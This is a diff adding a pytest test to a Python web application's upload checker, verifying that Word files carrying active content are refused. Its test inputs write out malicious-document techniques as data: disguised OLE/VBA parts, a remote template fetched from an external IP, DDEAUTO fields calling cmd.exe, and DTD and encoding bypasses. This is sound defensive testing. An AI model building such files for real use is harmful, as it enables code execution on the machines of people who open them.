@@ -148,3 +148,47 @@ def test_waitress_refuses_a_body_larger_than_the_app_accepts(app):
     from tracker.web.serving import server_options
 
     assert server_options(app)["max_request_body_size"] <= app.config["MAX_CONTENT_LENGTH"] + 64 * 1024
+
+
+@pytest.mark.parametrize(
+    ("members", "reason"),
+    [
+        ({"word/media/image9.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512}, "OLE"),
+        (
+            {
+                "word/vbaData.xml": b"<a/>",
+                "word/macros.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64,
+            },
+            "OLE",
+        ),
+        ({"word/embeddings/oleObject1.bin": b"x"}, "嵌入"),
+        (
+            {
+                "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://schemas.'
+                b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+                b'Target="http://198.51.100.1/t.dotm" TargetMode="External"/></Relationships>'
+            },
+            "外部资源",
+        ),
+        (
+            {
+                "word/document.xml": b'<w:document><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe"/></w:document>'
+            },
+            "DDE",
+        ),
+        (
+            {
+                "word/document.xml": b"<w:document><w:instrText>DD</w:instrText><w:instrText>E x</w:instrText></w:document>"
+            },
+            "DDE",
+        ),
+        ({"word/x.xml": '<?xml version="1.0" encoding="UTF-16"?><!DocType a>'.encode("utf-16")}, "DTD"),
+        ({"word/x.xml": b'<?xml version="1.0" encoding="UTF-7"?><a/>'}, "编码"),
+        ({"word/x.xml": "<!DOCTYPE a>".encode("utf-32-le")}, "编码"),
+        ({"word/data.bin": b"<?xml version='1.0'?><!ENTITY a 'b'>"}, "DTD"),
+    ],
+)
+def test_active_content_is_refused_with_a_reason(members, reason):
+    """Finding 6: OLE objects, VBA under another name, remote templates, DDE and DTD bypasses."""
+    with pytest.raises(EvidenceError, match=reason):
+        check_upload("材料.docx", zip_of({**OFFICE_PARTS, **members}))
